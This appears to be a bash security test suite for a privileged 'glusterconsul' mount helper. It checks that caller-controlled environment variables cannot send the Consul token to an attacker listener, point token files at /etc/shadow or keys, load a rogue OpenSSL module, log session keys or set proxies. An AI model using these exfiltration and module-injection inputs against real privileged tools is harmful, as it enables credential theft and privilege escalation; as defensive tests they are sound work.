# shellcheck shell=bash disable=SC2154 # names from lib.sh
# The environment is whoever's calls: under env_keep, sudo -E and su it reaches a helper
# that is root's, and must not decide what root sends, loads or writes.

# shellcheck source-path=SCRIPTDIR source=../lib_tls.sh
source "$here/lib_tls.sh"

token=2f7c9d5e-hush-hush-hush-5b1e0c4f6a88
conf=/etc/glusterconsul.conf
attacker=${address[gl4]}:8599

# conf_names_token [LINES...]: the machine's token, in its conf file.
conf_names_token() {
  later on client rm -f /etc/gluster.token "$conf"
  printf '%s\n' "$token" | on client install -m 600 /dev/stdin /etc/gluster.token
  printf '%s\n' 'consul-token-file = /etc/gluster.token' "$@" | on client install -m 644 /dev/stdin "$conf"
}

# An ordinary user listens on gl4, another machine, and writes down what he is sent.
listener_runs() {
  later on gl4 sh -c 'pkill -KILL -f "listener[-]of-nobody" || true; rm -f /tmp/sent'
  on gl4 setsid -f setpriv --reuid nobody --regid nogroup --clear-groups python3 -c 'import os, socket
sent = os.open("/tmp/sent", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
listener = socket.create_server(("0.0.0.0", 8599))
while True:
    connection, _ = listener.accept()
    os.write(sent, connection.recv(4096))
    connection.close()' listener-of-nobody </dev/null >/dev/null 2>&1
  wait_for 10 on gl4 sh -c 'ss -Hltn "sport = :8599" | grep -q .' || fail 'it does not listen'
}

expect_nothing_sent() {
  expect_equal 'what was sent to the listener' '' "$(on gl4 cat /tmp/sent)"
  [[ $out$err != *hush-hush* ]] || fail 'the token is shown'
}

# refuses WORDS... -- VARIABLES...: a mount with these is wrong usage.
refuses() {
  local words=()
  while [[ $1 != -- ]]; do
    words+=("$1")
    shift
  done
  make_target /mnt/none
  client env "${@:2}" mount -t glusterconsul "$g0" /mnt/none
  expect_status 1
  expect_error "${words[@]}"
  expect_not_mounted /mnt/none
}

test_the_token_of_the_conf_file_goes_to_no_address_from_the_environment() {
  listener_runs
  conf_names_token
  refuses consul-token-file "$conf:1" CONSUL_HTTP_ADDR 'use -o' -- CONSUL_HTTP_ADDR="$attacker"
  expect_nothing_sent
  client env CONSUL_HTTP_ADDR="$attacker" glusterconsul lookup "$g0"
  expect_status 1
  expect_nothing_sent
  # A token of the caller's own goes where he says.
  client env CONSUL_HTTP_ADDR="$attacker" CONSUL_HTTP_TOKEN=his-own \
    glusterconsul lookup "$g0" -o consul-via=http,consul-retry=0
  expect_status 32
  [[ $(on gl4 cat /tmp/sent) == *'X-Consul-Token: his-own'* ]] || fail 'the listener proves nothing'
  # With -o, and with the built-in address.
  make_target /mnt/g0
  client env CONSUL_HTTP_ADDR="$attacker" mount -t glusterconsul "$g0" /mnt/g0 -o consul-http-addr=127.0.0.1:8500
  expect_status 0
  client env CONSUL_HTTP_ADDR=127.0.0.1:8500 glusterconsul lookup "$g0"
  expect_status 0
}

test_the_environment_does_not_decide_how_the_token_s_consul_is_verified() {
  secure_consul_runs good
  conf_names_token 'consul-http-addr = https://127.0.0.2:8501' "consul-ca-cert = $keys/ca.pem" \
    'consul-dns-addr = off'
  refuses CONSUL_HTTP_SSL_VERIFY -- CONSUL_HTTP_SSL_VERIFY=false
  refuses CONSUL_CACERT -- CONSUL_CACERT="$keys/stranger.pem"
  refuses CONSUL_TLS_SERVER_NAME -- CONSUL_TLS_SERVER_NAME=elsewhere.example.net
  mounts "$g0" /mnt/g0
}

test_the_key_of_the_conf_file_is_not_used_with_an_address_from_the_environment() {
  listener_runs
  make_keys
  later on client rm -f "$conf"
  printf '%s\n' "consul-client-cert = $keys/client.pem" "consul-client-key = $keys/client.key" |
    on client install -m 644 /dev/stdin "$conf"
  refuses consul-client-key "$conf:2" CONSUL_HTTP_ADDR -- CONSUL_HTTP_ADDR="https://$attacker"
  expect_nothing_sent
}

test_a_file_that_is_not_a_token_is_not_sent() {
  listener_runs
  local file line
  printf -- '-----BEGIN PRIVATE KEY-----\nhush-hush\n' | on client install -m 600 /dev/stdin /tmp/key.pem
  printf '#!/bin/sh\necho hush-hush\n' | on client install -m 600 /dev/stdin /tmp/script
  for file in /etc/shadow /tmp/key.pem /tmp/script; do
    line=$(on client head -n 1 "$file")
    refuses "$file: the first line is not a token" -- \
      CONSUL_HTTP_TOKEN_FILE="$file" CONSUL_HTTP_ADDR="$attacker"
    [[ $err != *"$line"* ]] || fail 'the line is shown'
    expect_nothing_sent
  done
  refuses 'CONSUL_HTTP_TOKEN is not a token' -- CONSUL_HTTP_TOKEN='hush-hush: 1' CONSUL_HTTP_ADDR="$attacker"
  expect_nothing_sent
  on client rm -f /tmp/key.pem /tmp/script
}

# The module is a FIFO: whoever opens it lets the writer go on.
test_the_environment_loads_no_module_into_a_helper() {
  on client setpriv --reuid nobody --clear-groups sh -c 'cd /tmp && mkfifo module.so && cat >openssl.cnf' <<'END'
openssl_conf = init
[init]
providers = providers
[providers]
evil = evil
[evil]
module = /tmp/module.so
activate = 1
END
  later on client sh -c 'pkill -KILL -f "to[-]the-module" || true; rm -f /tmp/module.so /tmp/openssl.cnf /tmp/loaded'
  # shellcheck disable=SC2016 # expanded by the shell on the client
  on client setsid -f sh -c 'while :; do echo "$0" >/tmp/module.so; touch /tmp/loaded; done' to-the-module \
    </dev/null >/dev/null 2>&1
  make_target /mnt/g0
  client env OPENSSL_CONF=/tmp/openssl.cnf mount -t glusterconsul "$g0" /mnt/g0
  expect_status 0
  client env OPENSSL_CONF=/tmp/openssl.cnf glusterconsul lookup "$g0"
  expect_status 0
  ! on client test -e /tmp/loaded || fail 'the module was opened'
  client env OPENSSL_CONF=/tmp/openssl.cnf openssl list -providers
  on client test -e /tmp/loaded || fail 'OpenSSL does not load it: that proves nothing'
}

test_the_environment_writes_no_key_of_a_session_down() {
  secure_consul_runs good
  make_target /mnt/g0
  client env SSLKEYLOGFILE=/tmp/session-keys mount -t glusterconsul "$g0" /mnt/g0 -o "$trusted"
  expect_status 0
  ! on client test -e /tmp/session-keys || fail 'the keys of the session were written'
}

test_the_environment_names_no_authority_and_no_proxy() {
  secure_consul_runs good
  # All authorities of the system are read, which on a busy machine takes a while.
  client env SSL_CERT_FILE="$keys/ca.pem" SSL_CERT_DIR="$keys" CURL_CA_BUNDLE="$keys/ca.pem" \
    glusterconsul lookup "$g0" -o "$secure,consul-timeout=25s"
  expect_status 32
  expect_error certificate
  client env http_proxy="http://$attacker" https_proxy="http://$attacker" all_proxy="http://$attacker" \
    glusterconsul lookup "$g0" -o "$trusted"
  expect_status 0
}

# sudo(8), doas(1) and pkexec(1) tell by these who called them.
test_under_sudo_the_callers_variables_are_ignored() {
  listener_runs
  local by
  for by in SUDO_UID=1000 DOAS_USER=jo PKEXEC_UID=1000; do
    make_target /mnt/g0
    client env "$by" CONSUL_HTTP_ADDR="$attacker" CONSUL_HTTP_TOKEN=hush-hush \
      mount -t glusterconsul "$g0" /mnt/g0
    expect_status 0
    expect_mounted /mnt/g0 "$g0"
    expect_error 'warning: ignored' CONSUL_HTTP_ADDR CONSUL_HTTP_TOKEN "${by%=*} is set" 'use -o'
    expect_equal 'how often it is said' 1 "$(grep -c ignored <<<"$err")"
    expect_nothing_sent
    unmounts /mnt/g0
    client env "$by" CONSUL_HTTP_ADDR="$attacker" glusterconsul lookup "$g0"
    expect_status 0
    expect_error 'warning: ignored' CONSUL_HTTP_ADDR
  done
  # Nothing to ignore, nothing to say; and a user who is not root is the caller himself.
  client env SUDO_UID=1000 glusterconsul lookup "$g0"
  expect_status 0
  expect_equal 'what is said' '' "$err"
  client setpriv --reuid nobody --clear-groups env SUDO_UID=0 CONSUL_HTTP_ADDR=127.0.0.1:8599 \
    glusterconsul lookup "$g0" -o consul-via=http,consul-retry=0
  expect_status 32
  expect_error 127.0.0.1:8599
}
